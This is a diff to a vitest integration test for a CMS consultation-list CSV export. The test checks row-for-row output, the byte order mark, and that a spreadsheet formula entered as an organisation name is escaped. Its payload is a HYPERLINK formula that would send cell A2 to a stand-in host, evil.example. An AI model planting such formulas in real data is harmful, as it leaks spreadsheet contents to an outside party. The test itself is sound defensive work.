@@ -13,7 +13,9 @@ import Database from 'better-sqlite3';
 import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
 import { ephemeralCmsEnv } from '../../scripts/lib/cms-env.mjs';
 import { startCms } from '../../scripts/lib/cms-process.mjs';
+import { csvCell } from '@mzo/content-types/csv';
 import { adminClient } from '../support/admin-api.ts';
+import { csvRecords } from '../support/csv.ts';
 import { demo } from '../support/demo.ts';
 import { freePort } from '../support/net.ts';
 import { startPdokStandIn, startWebhookSink } from '../support/pdok-stand-in.ts';
@@ -481,6 +483,47 @@ describe('the consultation list for municipal staff in the CMS', () => {
     const text = await csv.text();
     expect(text).toContain(officialsOnly[0].email);
     for (const c of hidden) expect(text).not.toContain(c.email);
+  });
+
+  it('exports CSV that a strict reader takes row for row as the list, with a formula as a name made harmless', async () => {
+    const formula = '=HYPERLINK("https://evil.example/?d="&A2,"Klik hier")';
+    const [theme] = await list('api::theme.theme', tokens.editor, '&locale=nl');
+    const [wijk] = await list('api::wijk.wijk', tokens.editor, '&locale=nl');
+    const created = await api.call('POST', `${api.collection(ORG)}?locale=nl`, {
+      token: tokens.editor,
+      body: {
+        name: formula,
+        summary: 'Een naam die een spreadsheetformule is.',
+        legalForm: 'stichting',
+        consultationOptIn: true,
+        phone: '+31 30 123 4567',
+        themes: { connect: [{ documentId: theme.documentId }] },
+        serves: { connect: [{ documentId: wijk.documentId }] },
+      },
+    });
+    expect(created.status, JSON.stringify(created.body).slice(0, 300)).toBe(201);
+    const publish = await api.call('POST', `${api.collection(ORG)}/${created.body.data.documentId}/actions/publish?locale=nl`, {
+      token: tokens.editor,
+      body: {},
+    });
+    expect(publish.status, JSON.stringify(publish.body).slice(0, 300)).toBe(200);
+
+    const { body } = await api.call('GET', '/mzo/consultation-list', { token: tokens.municipality });
+    const response = await fetch(`${cms.url}/mzo/consultation-list?format=csv`, { headers: { authorization: `Bearer ${tokens.municipality}` } });
+    const bytes = new Uint8Array(await response.arrayBuffer());
+    // A UTF-8 byte order mark, for Excel.
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const records = csvRecords(new TextDecoder().decode(bytes));
+    // One record per contact person (or one for an organisation without any), in the order of the list.
+    const expected = body.data.flatMap((r: any) =>
+      (r.contacts.length ? r.contacts : [null]).map((c: any) => ({ organisatie: r.organisation, contact_email: c?.email })),
+    );
+    expect(records.map((r) => ({ organisatie: r.organisatie, contact_email: r.contact_email || undefined }))).toEqual(
+      expected.map((e: any) => ({ organisatie: csvCell(e.organisatie), contact_email: e.contact_email ?? undefined })),
+    );
+    const row = records.find((r) => r.organisatie.includes('HYPERLINK'))!;
+    expect(row.organisatie).toBe(`'${formula}`);
+    expect(row.telefoon).toBe('+31 30 123 4567');
   });
 
   it('refuses anyone not signed in to the admin', async () => {
